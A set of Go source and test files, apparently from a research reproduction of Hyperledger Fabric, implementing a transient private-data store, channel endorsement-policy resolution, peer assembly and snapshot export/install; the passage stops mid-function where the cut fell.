// fetches from here at commit time and erases entries once committed.
type TransientStore struct {
	mu   sync.Mutex
	sets map[string]*rwset.TxPvtRWSet // txID -> private sets
}

// NewTransientStore creates an empty transient store.
func NewTransientStore() *TransientStore {
	return &TransientStore{sets: make(map[string]*rwset.TxPvtRWSet)}
}

// Persist stores the private read/write set of a transaction. A second
// Persist for the same transaction merges collections, so gossip deliveries
// from multiple endorsers accumulate.
func (t *TransientStore) Persist(set *rwset.TxPvtRWSet) {
	if set == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	existing, ok := t.sets[set.TxID]
	if !ok {
		cp := *set
		t.sets[set.TxID] = &cp
		return
	}
	for _, coll := range set.CollSets {
		if !hasCollection(existing, coll.Collection) {
			existing.CollSets = append(existing.CollSets, coll)
		}
	}
}

// Get returns the stored private set for txID, or nil.
func (t *TransientStore) Get(txID string) *rwset.TxPvtRWSet {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.sets[txID]
}

// GetCollection returns the original private set of one collection for
// txID, or nil when the peer never received it.
func (t *TransientStore) GetCollection(txID, collection string) *rwset.CollPvtRWSet {
	t.mu.Lock()
	defer t.mu.Unlock()
	set, ok := t.sets[txID]
	if !ok {
		return nil
	}
	for i := range set.CollSets {
		if set.CollSets[i].Collection == collection {
			return &set.CollSets[i]
		}
	}
	return nil
}

// Purge removes the entry for txID after commit.
func (t *TransientStore) Purge(txID string) {
	t.mu.Lock()
	defer t.mu.Unlock()
	delete(t.sets, txID)
}

// Len reports how many transactions currently have transient data.
func (t *TransientStore) Len() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return len(t.sets)
}

func hasCollection(set *rwset.TxPvtRWSet, name string) bool {
	for _, c := range set.CollSets {
		if c.Collection == name {
			return true
		}
	}
	return false
}
