package channel

import (
	"testing"

	"repro/internal/identity"
)

func testConfig(t *testing.T) (*Config, map[string]*identity.CA) {
	t.Helper()
	cas := make(map[string]*identity.CA)
	var orgs []OrgConfig
	for _, name := range []string{"org1", "org2", "org3"} {
		ca, err := identity.NewCA(name)
		if err != nil {
			t.Fatal(err)
		}
		cas[name] = ca
		orgs = append(orgs, OrgConfig{Name: name, CAPub: ca.PublicKey()})
	}
	return NewConfig("c1", orgs...), cas
}

func TestDefaults(t *testing.T) {
	cfg, _ := testConfig(t)
	if cfg.DefaultEndorsement != "MAJORITY Endorsement" {
		t.Fatalf("default = %q", cfg.DefaultEndorsement)
	}
	if !cfg.HasOrg("org2") || cfg.HasOrg("org9") {
		t.Fatal("HasOrg wrong")
	}
	names := cfg.OrgNames()
	if len(names) != 3 || names[0] != "org1" {
		t.Fatalf("names = %v", names)
	}
}

func TestVerifierTrustsAllCAs(t *testing.T) {
	cfg, cas := testConfig(t)
	v := cfg.Verifier()
	id, _ := cas["org2"].Issue("peer0.org2", identity.RolePeer)
	if err := v.ValidateCertificate(id.Cert); err != nil {
		t.Fatalf("validate: %v", err)
	}
}

func TestResolveDefaultPolicy(t *testing.T) {
	cfg, _ := testConfig(t)
	pol, err := cfg.ResolvePolicy("")
	if err != nil {
		t.Fatal(err)
	}
	// MAJORITY of three orgs: two peer signatures satisfy it.
	signers := []*identity.Certificate{
		{Org: "org1", Role: identity.RolePeer},
		{Org: "org3", Role: identity.RolePeer},
	}
	if !pol.Evaluate(signers) {
		t.Fatal("2/3 majority rejected")
	}
	if pol.Evaluate(signers[:1]) {
		t.Fatal("1/3 accepted as majority")
	}
}

func TestResolveSignaturePolicy(t *testing.T) {
	cfg, _ := testConfig(t)
	pol, err := cfg.ResolvePolicy("AND(org1.peer, org2.peer)")
	if err != nil {
		t.Fatal(err)
	}
	if pol.String() != "AND(org1.peer, org2.peer)" {
		t.Fatalf("resolved = %q", pol.String())
	}
	if _, err := cfg.ResolvePolicy("GIBBERISH("); err == nil {
		t.Fatal("bad spec resolved")
	}
}

func TestCustomOrgEndorsementPolicy(t *testing.T) {
	cfg, _ := testConfig(t)
	// org1 requires its admin rather than a peer.
	cfg.Orgs[0].EndorsementPolicy = "OR(org1.admin)"
	pol, err := cfg.ResolvePolicy("MAJORITY Endorsement")
	if err != nil {
		t.Fatal(err)
	}
	peers := []*identity.Certificate{
		{Org: "org1", Role: identity.RolePeer},
		{Org: "org2", Role: identity.RolePeer},
	}
	if pol.Evaluate(peers) {
		t.Fatal("org1 peer satisfied admin-only endorsement policy")
	}
	withAdmin := []*identity.Certificate{
		{Org: "org1", Role: identity.RoleAdmin},
		{Org: "org2", Role: identity.RolePeer},
	}
	if !pol.Evaluate(withAdmin) {
		t.Fatal("admin+peer rejected")
	}
}

func TestOrgEndorsementPoliciesParseError(t *testing.T) {
	cfg, _ := testConfig(t)
	cfg.Orgs[1].EndorsementPolicy = "broken("
	if _, err := cfg.OrgEndorsementPolicies(); err == nil {
		t.Fatal("broken org policy accepted")
	}
	if _, err := cfg.ResolvePolicy("MAJORITY Endorsement"); err == nil {
		t.Fatal("implicitMeta resolved over a broken org policy")
	}
}
