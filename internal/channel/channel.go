// Package channel models a Fabric channel configuration: the consortium
// of organizations, their per-org "Endorsement" signature policies, and
// the channel-default endorsement policy rule — the information that in a
// real deployment lives in configtx.yaml.
//
// The channel default matters to the paper's study: 116 of the 120
// configtx.yaml files found on GitHub use "MAJORITY Endorsement" as the
// chaincode-level endorsement policy, which accepts endorsements from any
// majority of organizations, PDC members or not.
package channel

import (
	"fmt"
	"sort"

	"repro/internal/fabcrypto"
	"repro/internal/identity"
	"repro/internal/policy"
)

// OrgConfig is one organization's channel membership material.
type OrgConfig struct {
	// Name is the MSP ID, e.g. "org1".
	Name string
	// CAPub is the organization's CA verification key.
	CAPub fabcrypto.PublicKey
	// EndorsementPolicy is the org's signature policy named
	// "Endorsement", referenced by implicitMeta rules. Empty defaults
	// to "OR(<org>.peer)".
	EndorsementPolicy string
}

// Config is a channel configuration.
type Config struct {
	// Name is the channel ID.
	Name string
	// Orgs are the member organizations.
	Orgs []OrgConfig
	// DefaultEndorsement is the channel-default chaincode-level
	// endorsement policy rule from configtx.yaml, e.g.
	// "MAJORITY Endorsement". It applies to every chaincode that does
	// not set its own policy.
	DefaultEndorsement string
}

// NewConfig builds a channel configuration with the Fabric default
// "MAJORITY Endorsement" rule.
func NewConfig(name string, orgs ...OrgConfig) *Config {
	return &Config{Name: name, Orgs: orgs, DefaultEndorsement: "MAJORITY Endorsement"}
}

// OrgNames returns the sorted organization names.
func (c *Config) OrgNames() []string {
	out := make([]string, len(c.Orgs))
	for i, o := range c.Orgs {
		out[i] = o.Name
	}
	sort.Strings(out)
	return out
}

// HasOrg reports whether org is a channel member.
func (c *Config) HasOrg(org string) bool {
	for _, o := range c.Orgs {
		if o.Name == org {
			return true
		}
	}
	return false
}

// Verifier builds an identity verifier trusting every member org's CA.
func (c *Config) Verifier() *identity.Verifier {
	v := identity.NewVerifier()
	for _, o := range c.Orgs {
		v.TrustCA(o.Name, o.CAPub)
	}
	return v
}

// OrgEndorsementPolicies resolves each org's "Endorsement" signature
// policy (defaulting to OR(<org>.peer)), the inputs e_i of the paper's
// Eq. (1).
func (c *Config) OrgEndorsementPolicies() (map[string]policy.Policy, error) {
	out := make(map[string]policy.Policy, len(c.Orgs))
	for _, o := range c.Orgs {
		spec := o.EndorsementPolicy
		if spec == "" {
			spec = fmt.Sprintf("OR(%s.peer)", o.Name)
		}
		pol, err := policy.Parse(spec)
		if err != nil {
			return nil, fmt.Errorf("channel %s: org %s endorsement policy: %w", c.Name, o.Name, err)
		}
		out[o.Name] = pol
	}
	return out, nil
}

// ResolvePolicy turns a policy specification into an evaluable policy.
// Signature policy expressions parse directly; implicitMeta
// specifications ("MAJORITY Endorsement") resolve over the per-org
// endorsement policies. An empty spec resolves the channel default.
func (c *Config) ResolvePolicy(spec string) (policy.Policy, error) {
	if spec == "" {
		spec = c.DefaultEndorsement
	}
	if policy.IsImplicitMetaSpec(spec) {
		rule, name, err := policy.ParseImplicitMetaSpec(spec)
		if err != nil {
			return nil, err
		}
		orgPolicies, err := c.OrgEndorsementPolicies()
		if err != nil {
			return nil, err
		}
		return policy.ResolveImplicitMeta(rule, name, orgPolicies)
	}
	pol, err := policy.Parse(spec)
	if err != nil {
		return nil, fmt.Errorf("channel %s: resolve policy %q: %w", c.Name, spec, err)
	}
	return pol, nil
}
