// The peer's service.Peer implementation: the same endorse/deliver
// surface the wire protocol serves, expressed over the in-process
// component. Tests and single-process deployments embed the peer
// directly; multi-process deployments front it with wire.RegisterPeer
// and talk to it through a wire.PeerClient — both satisfy service.Peer.
package peer

import (
	"context"

	"repro/internal/ledger"
	"repro/internal/service"
)

var _ service.Peer = (*Peer)(nil)

// Endorse simulates the proposal and returns the signed response,
// honoring ctx before the (synchronous, in-process) simulation starts.
func (p *Peer) Endorse(ctx context.Context, prop *ledger.Proposal) (*ledger.ProposalResponse, error) {
	if err := ctx.Err(); err != nil {
		return nil, err
	}
	return p.ProcessProposal(prop)
}

// SubscribeLive streams events for blocks committed after the call.
func (p *Peer) SubscribeLive() service.Stream {
	return p.delivery.SubscribeLive()
}

// SubscribeFrom replays events from block `from` and follows live.
func (p *Peer) SubscribeFrom(from uint64) (service.Stream, error) {
	sub, err := p.delivery.Subscribe(from)
	if err != nil {
		return nil, err
	}
	return sub, nil
}
