package peer

import (
	"context"
	"sync"
	"testing"

	"repro/internal/ledger"
)

// TestListenerRegistrationRace registers commit/event listeners and opens
// deliver subscriptions while blocks are committing, under -race: the
// listener slices and the delivery fan-out must tolerate concurrent
// registration without torn reads.
func TestListenerRegistrationRace(t *testing.T) {
	p1, _, _ := twoPeers(t)

	const blocks = 40
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		var prev []byte
		for i := 0; i < blocks; i++ {
			b := ledger.NewBlock(uint64(i), prev, nil)
			if err := p1.CommitBlock(b); err != nil {
				t.Errorf("commit %d: %v", i, err)
				return
			}
			prev = b.Hash()
		}
	}()

	var fired sync.WaitGroup
	for i := 0; i < blocks; i++ {
		p1.OnCommit(func(uint64, string, ledger.ValidationCode) {})
		p1.OnEvent(func(uint64, string, *ledger.ChaincodeEvent) {})
		sub := p1.Deliver().SubscribeLive()
		fired.Add(1)
		go func() {
			defer fired.Done()
			sub.Recv(context.Background())
			sub.Close()
		}()
	}
	wg.Wait()
	// Unblock any subscriber still waiting on a block that will never
	// come: publish one more.
	last, err := p1.Ledger().Block(uint64(blocks - 1))
	if err != nil {
		t.Fatal(err)
	}
	final := ledger.NewBlock(uint64(blocks), last.Hash(), nil)
	if err := p1.CommitBlock(final); err != nil {
		t.Fatal(err)
	}
	fired.Wait()

	if p1.Ledger().Height() != blocks+1 {
		t.Fatalf("height = %d", p1.Ledger().Height())
	}
}
