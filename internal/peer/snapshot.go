package peer

import (
	"bytes"
	"fmt"
	"os"
	"path/filepath"

	"repro/internal/snapshot"
	"repro/internal/statedb"
	"repro/internal/storage"
	"repro/internal/validator"
)

// exportRetries bounds how often ExportSnapshot restarts after a block
// commit lands mid-export.
const exportRetries = 5

// ExportSnapshot serializes the peer's full commit-point state into dir
// (which must not exist yet): every statedb tuple and tombstone across
// all namespaces — public, hashed-private and original-private — plus
// the pending BlockToLive purge schedule, the missing-private-data
// records, and the block-height watermark. The artifact format is
// documented in docs/SNAPSHOT.md; another peer installs it with
// InstallSnapshot and catches up from the watermark via delivery
// replay.
//
// The cut is consistent: the statedb view is a copy-on-write snapshot,
// and the export restarts if a block commits between capturing the
// chain height and the state view.
func (p *Peer) ExportSnapshot(dir string) (*snapshot.Manifest, error) {
	fail := func(err error) (*snapshot.Manifest, error) {
		return nil, fmt.Errorf("peer %s: export snapshot: %w", p.Name(), err)
	}
	if _, err := os.Stat(dir); err == nil {
		return fail(fmt.Errorf("%s already exists", dir))
	}
	tmp := dir + ".partial"
	for attempt := 0; ; attempt++ {
		if err := os.RemoveAll(tmp); err != nil {
			return fail(err)
		}
		m, raced, err := p.tryExportSnapshot(tmp)
		if err != nil {
			os.RemoveAll(tmp)
			return fail(err)
		}
		if raced {
			if attempt >= exportRetries {
				os.RemoveAll(tmp)
				return fail(fmt.Errorf("chain advanced during every attempt (%d tries)", attempt+1))
			}
			continue
		}
		// The artifact becomes visible atomically: a crash mid-export
		// leaves only the .partial directory, never a half-written dir.
		if err := os.Rename(tmp, dir); err != nil {
			os.RemoveAll(tmp)
			return fail(err)
		}
		return m, nil
	}
}

// tryExportSnapshot writes one export attempt into dir. raced reports
// that a block committed mid-export and the attempt must be discarded.
func (p *Peer) tryExportSnapshot(dir string) (m *snapshot.Manifest, raced bool, err error) {
	height := p.blocks.Height()
	lastHash := p.blocks.LastHash()
	snap := p.db.Snapshot()
	defer snap.Release()

	w, err := snapshot.NewWriter(dir)
	if err != nil {
		return nil, false, err
	}
	for _, ns := range snap.AllNamespaces() {
		it := snap.RangeIter(ns, "", "", 0)
		for {
			page := it.NextPage()
			if page == nil {
				break
			}
			for _, kv := range page {
				err := w.Add(snapshot.Record{
					Kind:      snapshot.KindState,
					Namespace: ns,
					Key:       kv.Key,
					Value:     kv.Value,
					Version:   uint64(kv.Version),
				})
				if err != nil {
					return nil, false, err
				}
			}
		}
		for _, tomb := range snap.Tombstones(ns) {
			err := w.Add(snapshot.Record{
				Kind:      snapshot.KindTombstone,
				Namespace: ns,
				Key:       tomb.Key,
				Version:   uint64(tomb.Version),
			})
			if err != nil {
				return nil, false, err
			}
		}
	}
	for _, e := range p.pvt.PendingPurges() {
		err := w.Add(snapshot.Record{Kind: snapshot.KindPurge, At: e.At, Namespace: e.Namespace, Key: e.Key})
		if err != nil {
			return nil, false, err
		}
	}
	for _, e := range p.validator.Missing() {
		err := w.Add(snapshot.Record{Kind: snapshot.KindMissing, TxID: e.TxID, Collection: e.Collection})
		if err != nil {
			return nil, false, err
		}
	}
	if p.blocks.Height() != height {
		// A commit landed while exporting: the captured height no longer
		// matches the state view. Discard and retry.
		return nil, true, nil
	}
	m, err = w.Finish(height, lastHash, snap.Hash())
	if err != nil {
		return nil, false, err
	}
	return m, false, nil
}

// InstallSnapshot installs a snapshot artifact into this (empty) peer:
// the world state, tombstones, purge schedule and missing records land
// exactly as exported, and the chain adopts the snapshot height as its
// base — without a single block passing through the validator. The
// peer then catches up from the watermark via the ordinary delivery
// path (deliver.Subscribe from manifest.Height).
//
// The artifact is fully verified — manifest hash, chunk hashes, record
// CRCs, counts — before anything is mutated, so a failed verification
// (storage.ErrCorrupt) leaves both the peer and the artifact directory
// untouched: re-fetch into the same dir and retry. With a storage
// backend attached, durability follows the commit ordering contract:
// the chain base first, then the whole state as one atomic batch at the
// snapshot height. A crash between the two is detected by Restore
// (watermark below base) and the install is simply repeated.
func (p *Peer) InstallSnapshot(dir string) error {
	fail := func(err error) error {
		return fmt.Errorf("peer %s: install snapshot: %w", p.Name(), err)
	}
	if p.persist != nil {
		return fail(fmt.Errorf("legacy block-file peers do not support snapshot install"))
	}
	if h, b := p.blocks.Height(), p.blocks.Base(); h != 0 || b != 0 {
		return fail(fmt.Errorf("peer is not empty (height %d, base %d)", h, b))
	}

	// Verify everything before touching any store.
	m, records, err := snapshot.Load(dir)
	if err != nil {
		return fail(err)
	}
	lastHash, err := m.LastBlockHashBytes()
	if err != nil {
		return fail(err)
	}
	stateHash, err := m.StateHashBytes()
	if err != nil {
		return fail(err)
	}

	entries := make([]statedb.JournalEntry, 0, m.Counts.State+m.Counts.Tombstones)
	var purges []storage.PurgeEntry
	var missing []validator.MissingEntry
	for _, r := range records {
		switch r.Kind {
		case snapshot.KindState:
			entries = append(entries, statedb.JournalEntry{
				Namespace: r.Namespace, Key: r.Key, Value: r.Value, Version: statedb.Version(r.Version),
			})
		case snapshot.KindTombstone:
			entries = append(entries, statedb.JournalEntry{
				Namespace: r.Namespace, Key: r.Key, Version: statedb.Version(r.Version), Delete: true,
			})
		case snapshot.KindPurge:
			purges = append(purges, storage.PurgeEntry{At: r.At, Namespace: r.Namespace, Key: r.Key})
		case snapshot.KindMissing:
			missing = append(missing, validator.MissingEntry{TxID: r.TxID, Collection: r.Collection})
		}
	}

	// Durable install first, in commit order (docs/STORAGE.md §7): chain
	// base, then the state as ONE batch at the snapshot height — atomic
	// by the StateStore contract, so a crash leaves either no state or
	// all of it.
	if p.backend != nil {
		bs, ok := p.backend.Blocks().(storage.BaseBlockStore)
		if !ok {
			return fail(fmt.Errorf("storage backend %q does not support snapshot install", p.backend.Name()))
		}
		if wm := p.backend.State().Watermark(); wm != 0 {
			return fail(fmt.Errorf("storage backend is not empty (watermark %d)", wm))
		}
		if err := bs.InstallBase(m.Height, lastHash); err != nil {
			return fail(err)
		}
		batch := storage.StateBatch{Height: m.Height, Records: make([]storage.StateRecord, len(entries))}
		for i, e := range entries {
			batch.Records[i] = storage.StateRecord{
				Namespace: e.Namespace, Key: e.Key, Value: e.Value, Version: uint64(e.Version), Delete: e.Delete,
			}
		}
		if err := p.backend.State().Apply(batch); err != nil {
			return fail(err)
		}
	}

	// In-memory install: chain base, state (journal-bypassing — the
	// records are durable already), then the private-data bookkeeping
	// (mirrored to the durable store as it lands).
	if err := p.blocks.InstallBase(m.Height, lastHash); err != nil {
		return fail(err)
	}
	p.db.RestoreBatch(entries)
	if err := p.pvt.InstallPurges(purges); err != nil {
		return fail(err)
	}
	if err := p.validator.SeedMissing(missing); err != nil {
		return fail(err)
	}

	// End-to-end check: the installed world state must hash to exactly
	// the exporter's digest.
	if got := p.db.StateHash(); !bytes.Equal(got, stateHash) {
		return fail(fmt.Errorf("%w: installed state hash %x, manifest records %x",
			storage.ErrCorrupt, got, stateHash))
	}
	return nil
}

// SnapshotManifestPath returns the manifest path inside an artifact
// directory (convenience for transports that ship the raw files).
func SnapshotManifestPath(dir string) string { return filepath.Join(dir, snapshot.ManifestName) }
