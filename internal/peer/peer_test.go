package peer

import (
	"testing"

	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/pvtdata"
)

// twoPeers wires two peers of different orgs over one gossip network and
// one channel, without an orderer: tests deliver blocks by hand.
func twoPeers(t *testing.T) (p1, p2 *Peer, clientID *identity.Identity) {
	t.Helper()
	ca1, err := identity.NewCA("org1")
	if err != nil {
		t.Fatal(err)
	}
	ca2, err := identity.NewCA("org2")
	if err != nil {
		t.Fatal(err)
	}
	cfg := channel.NewConfig("c1",
		channel.OrgConfig{Name: "org1", CAPub: ca1.PublicKey()},
		channel.OrgConfig{Name: "org2", CAPub: ca2.PublicKey()},
	)
	gos := gossip.NewNetwork()
	id1, _ := ca1.Issue("peer0.org1", identity.RolePeer)
	id2, _ := ca2.Issue("peer0.org2", identity.RolePeer)
	p1, err = New(Config{Identity: id1, Channel: cfg, Gossip: gos, Security: core.OriginalFabric()})
	if err != nil {
		t.Fatal(err)
	}
	p2, err = New(Config{Identity: id2, Channel: cfg, Gossip: gos, Security: core.OriginalFabric()})
	if err != nil {
		t.Fatal(err)
	}
	clientID, _ = ca1.Issue("client0.org1", identity.RoleClient)
	return p1, p2, clientID
}

func deployEcho(t *testing.T, peers ...*Peer) {
	t.Helper()
	def := &chaincode.Definition{Name: "cc", Version: "1.0"}
	impl := chaincode.Router{
		"set": func(stub chaincode.Stub) ledger.Response {
			args := stub.Args()
			if err := stub.PutState(args[0], []byte(args[1])); err != nil {
				return chaincode.ErrorResponse(err.Error())
			}
			return chaincode.SuccessResponse(nil)
		},
	}
	for _, p := range peers {
		if err := p.ApproveDefinition(def); err != nil {
			t.Fatal(err)
		}
		p.InstallChaincode("cc", impl)
	}
}

func proposal(t *testing.T, clientID *identity.Identity, fn string, args ...string) *ledger.Proposal {
	t.Helper()
	nonce, err := ledger.NewNonce()
	if err != nil {
		t.Fatal(err)
	}
	creator := clientID.Cert.Bytes()
	return &ledger.Proposal{
		TxID:      ledger.NewTxID(nonce, creator),
		ChannelID: "c1",
		Chaincode: "cc",
		Function:  fn,
		Args:      args,
		Creator:   creator,
		Nonce:     nonce,
	}
}

func TestPeerIdentityAccessors(t *testing.T) {
	p1, _, _ := twoPeers(t)
	if p1.Name() != "peer0.org1" || p1.Org() != "org1" {
		t.Fatalf("accessors: %s / %s", p1.Name(), p1.Org())
	}
	if p1.GossipName() != p1.Name() || p1.GossipOrg() != p1.Org() {
		t.Fatal("gossip surface disagrees with identity")
	}
}

func TestApproveDefinitionValidates(t *testing.T) {
	p1, _, _ := twoPeers(t)
	bad := &chaincode.Definition{
		Name: "cc",
		Collections: []pvtdata.CollectionConfig{{
			Name: "broken", MemberPolicy: "not-a-policy(",
		}},
	}
	if err := p1.ApproveDefinition(bad); err == nil {
		t.Fatal("broken collection config approved")
	}
	if p1.Definition("cc") != nil {
		t.Fatal("failed approval registered the definition")
	}
}

func TestEndorseCommitNotify(t *testing.T) {
	p1, p2, clientID := twoPeers(t)
	deployEcho(t, p1, p2)

	prop := proposal(t, clientID, "set", "k", "v")
	resp1, err := p1.ProcessProposal(prop)
	if err != nil {
		t.Fatal(err)
	}
	resp2, err := p2.ProcessProposal(prop)
	if err != nil {
		t.Fatal(err)
	}

	tx := &ledger.Transaction{
		TxID:            prop.TxID,
		ChannelID:       "c1",
		Creator:         prop.Creator,
		Proposal:        prop,
		ResponsePayload: resp1.Payload,
		Endorsements:    []ledger.Endorsement{resp1.Endorsement, resp2.Endorsement},
	}
	block := ledger.NewBlock(0, nil, []*ledger.Transaction{tx})

	var notified []ledger.ValidationCode
	p1.OnCommit(func(blockNum uint64, txID string, code ledger.ValidationCode) {
		if txID == prop.TxID {
			notified = append(notified, code)
		}
	})
	if err := p1.CommitBlock(block); err != nil {
		t.Fatal(err)
	}
	if len(notified) != 1 || notified[0] != ledger.Valid {
		t.Fatalf("notifications = %v", notified)
	}
	if v, _, _ := p1.WorldState().Get("cc", "k"); string(v) != "v" {
		t.Fatalf("state = %q", v)
	}
	if p1.Ledger().Height() != 1 {
		t.Fatalf("height = %d", p1.Ledger().Height())
	}
}

func TestSecuritySwapPropagates(t *testing.T) {
	p1, p2, clientID := twoPeers(t)
	deployEcho(t, p1, p2)
	p1.SetSecurity(core.Feature2Only())

	resp, err := p1.ProcessProposal(proposal(t, clientID, "set", "k", "v"))
	if err != nil {
		t.Fatal(err)
	}
	if len(resp.PlainPayload) == 0 {
		t.Fatal("Feature 2 not active after SetSecurity")
	}
	p1.SetSecurity(core.OriginalFabric())
	resp, err = p1.ProcessProposal(proposal(t, clientID, "set", "k", "v"))
	if err != nil {
		t.Fatal(err)
	}
	if resp.PlainPayload != nil {
		t.Fatal("Feature 2 still active after reverting")
	}
}

func TestCommitBlockRejectsBrokenChain(t *testing.T) {
	p1, p2, clientID := twoPeers(t)
	deployEcho(t, p1, p2)
	prop := proposal(t, clientID, "set", "k", "v")
	resp, err := p1.ProcessProposal(prop)
	if err != nil {
		t.Fatal(err)
	}
	tx := &ledger.Transaction{
		TxID: prop.TxID, ChannelID: "c1", Creator: prop.Creator,
		Proposal: prop, ResponsePayload: resp.Payload,
		Endorsements: []ledger.Endorsement{resp.Endorsement},
	}
	// Block number 5 on an empty chain must be refused.
	block := ledger.NewBlock(5, nil, []*ledger.Transaction{tx})
	if err := p1.CommitBlock(block); err == nil {
		t.Fatal("out-of-order block accepted")
	}
}
