// Package peer assembles a Fabric peer node: world state, private data
// stores, blockchain, chaincode registry, endorsement engine and
// validation engine, plus the gossip surface for private data
// dissemination.
package peer

import (
	"fmt"
	"path/filepath"
	"sync"

	"repro/internal/blockfile"
	"repro/internal/chaincode"
	"repro/internal/channel"
	"repro/internal/core"
	"repro/internal/deliver"
	"repro/internal/endorser"
	"repro/internal/fabcrypto"
	"repro/internal/gossip"
	"repro/internal/identity"
	"repro/internal/ledger"
	"repro/internal/metrics"
	"repro/internal/pvtdata"
	"repro/internal/reconcile"
	"repro/internal/rwset"
	"repro/internal/statedb"
	"repro/internal/storage"
	"repro/internal/validator"

	// Register the durable backend so SecurityConfig.StorageBackend can
	// name it.
	_ "repro/internal/storage/durable"
)

// Peer is one peer node.
type Peer struct {
	id         *identity.Identity
	channelCfg *channel.Config
	db         *statedb.DB
	pvt        *pvtdata.Store
	transient  *pvtdata.TransientStore
	blocks     *ledger.BlockStore
	registry   *chaincode.Registry
	endorser   *endorser.Endorser
	validator  *validator.Validator
	reconciler *reconcile.Reconciler
	persist    *blockfile.Store
	delivery   *deliver.Service
	metrics    metrics.Counters
	timings    metrics.Timings

	// metricsMu guards metricsSources: external counter providers
	// (e.g. the wire transport) merged into Metrics snapshots.
	metricsMu      sync.Mutex
	metricsSources []func() map[string]uint64

	// backend, when non-nil, is the peer's storage backend: blocks,
	// state batches and private-data bookkeeping become durable in the
	// order documented in docs/STORAGE.md §7. storageMu serializes the
	// journal drain/flush step; storageErr holds a flush failure from a
	// background path (reconciler tick) until the commit path can
	// surface it.
	backend    storage.Backend
	storageMu  sync.Mutex
	storageErr error

	mu   sync.RWMutex
	defs map[string]*chaincode.Definition

	// commitListeners receive (blockNum, txID, code) after each
	// transaction commit attempt; clients subscribe for notifications.
	listenerMu      sync.RWMutex
	commitListeners []CommitListener
	eventListeners  []EventListener
}

// CommitListener observes transaction validation outcomes at this peer.
type CommitListener func(blockNum uint64, txID string, code ledger.ValidationCode)

// EventListener observes chaincode events of valid transactions.
type EventListener func(blockNum uint64, txID string, event *ledger.ChaincodeEvent)

// Config wires a peer.
type Config struct {
	// Identity is the peer's enrollment identity.
	Identity *identity.Identity
	// Channel is the channel configuration.
	Channel *channel.Config
	// Gossip is the channel's gossip network.
	Gossip *gossip.Network
	// Security selects the active defense features.
	Security core.SecurityConfig
	// PersistDir, when set, makes the peer's blockchain durable: every
	// committed block is appended to an on-disk block file, and a peer
	// restarted over the same directory rebuilds its world state by
	// replay (use NewPersistent). Superseded by the storage backends
	// (Security.StorageBackend); kept for block-file-only deployments.
	PersistDir string
	// Backend, when non-nil, is used as the peer's storage backend
	// directly instead of opening one from Security.StorageBackend —
	// dependency injection for restart-shaped tests (hand a memory
	// backend to a second peer object to simulate a reboot without
	// touching disk).
	Backend storage.Backend
}

// New creates a peer and joins it to the gossip network. When
// cfg.Backend or cfg.Security.StorageBackend selects a storage backend,
// the peer's commits become durable; a backend with existing data needs
// Restore called (after approving definitions) before the first commit.
// For the legacy block-file-only persistence use NewPersistent.
func New(cfg Config) (*Peer, error) {
	db := statedb.New()
	p := &Peer{
		id:         cfg.Identity,
		channelCfg: cfg.Channel,
		db:         db,
		pvt:        pvtdata.NewStore(db),
		transient:  pvtdata.NewTransientStore(),
		blocks:     ledger.NewBlockStore(),
		registry:   chaincode.NewRegistry(),
		defs:       make(map[string]*chaincode.Definition),
	}
	db.SetObserver(&p.timings)

	p.backend = cfg.Backend
	if p.backend == nil && cfg.Security.StorageBackend != "" {
		var dir string
		if cfg.Security.StorageDir != "" {
			dir = filepath.Join(cfg.Security.StorageDir, cfg.Identity.Subject())
		}
		backend, err := storage.Open(cfg.Security.StorageBackend, storage.Options{
			Dir:          dir,
			SegmentBytes: cfg.Security.StorageSegmentBytes,
			NoFsync:      cfg.Security.StorageNoFsync,
		})
		if err != nil {
			return nil, fmt.Errorf("peer %s: %w", cfg.Identity.Subject(), err)
		}
		p.backend = backend
	}
	if p.backend != nil {
		p.pvt.SetDurable(p.backend.Pvt())
		// Capture every state mutation from here on; Restore installs
		// already-durable batches through the journal-bypassing
		// RestoreBatch, so nothing is double-flushed.
		db.EnableJournal()
	}
	verifier := cfg.Channel.Verifier()
	p.endorser = endorser.New(endorser.Config{
		Identity:  cfg.Identity,
		Verifier:  verifier,
		Registry:  p.registry,
		Defs:      p.Definition,
		DB:        db,
		Pvt:       p.pvt,
		Transient: p.transient,
		Gossip:    cfg.Gossip,
		Security:  cfg.Security,
	})
	var durablePvt storage.PvtStore
	if p.backend != nil {
		durablePvt = p.backend.Pvt()
	}
	p.validator = validator.New(validator.Config{
		SelfName:  cfg.Identity.Subject(),
		SelfOrg:   cfg.Identity.MSPID(),
		Channel:   cfg.Channel,
		Verifier:  verifier,
		Defs:      p.Definition,
		DB:        db,
		Pvt:       p.pvt,
		Transient: p.transient,
		Gossip:    cfg.Gossip,
		Blocks:    p.blocks,
		Security:  cfg.Security,
		Metrics:   &p.metrics,
		Timings:   &p.timings,
		Durable:   durablePvt,
	})
	p.transient.SetHeightSource(p.blocks.Height)
	p.transient.SetLimits(cfg.Security.TransientTTLBlocks, cfg.Security.TransientMaxEntries)
	p.reconciler = reconcile.New(reconcile.Config{
		Fetch: func() []reconcile.Entry {
			missing := p.validator.Missing()
			out := make([]reconcile.Entry, len(missing))
			for i, m := range missing {
				out[i] = reconcile.Entry{TxID: m.TxID, Collection: m.Collection}
			}
			return out
		},
		Attempt: func(e reconcile.Entry) bool {
			return p.validator.ReconcileOne(e.TxID, e.Collection)
		},
		MaxAttempts: cfg.Security.ReconcileMaxAttempts,
		BaseBackoff: cfg.Security.ReconcileBaseBackoff,
		MaxBackoff:  cfg.Security.ReconcileMaxBackoff,
		Metrics:     &p.metrics,
		Timings:     &p.timings,
	})
	p.delivery = deliver.New(deliver.Config{
		Source:     p.blocks,
		Missing:    p.MissingPrivateData,
		BufferSize: cfg.Security.DeliverBufferSize,
		Metrics:    &p.metrics,
		Timings:    &p.timings,
	})
	cfg.Gossip.Join(p)
	return p, nil
}

// NewPersistent creates a durable peer over cfg.PersistDir: existing
// blocks are replayed to rebuild the world state, and every future
// commit is appended to the block file before CommitBlock returns.
// This is the legacy block-file-only path; configuring a storage
// backend as well is a configuration error.
func NewPersistent(cfg Config) (*Peer, error) {
	if cfg.PersistDir == "" {
		return nil, fmt.Errorf("peer: NewPersistent requires PersistDir")
	}
	if cfg.Backend != nil || cfg.Security.StorageBackend != "" {
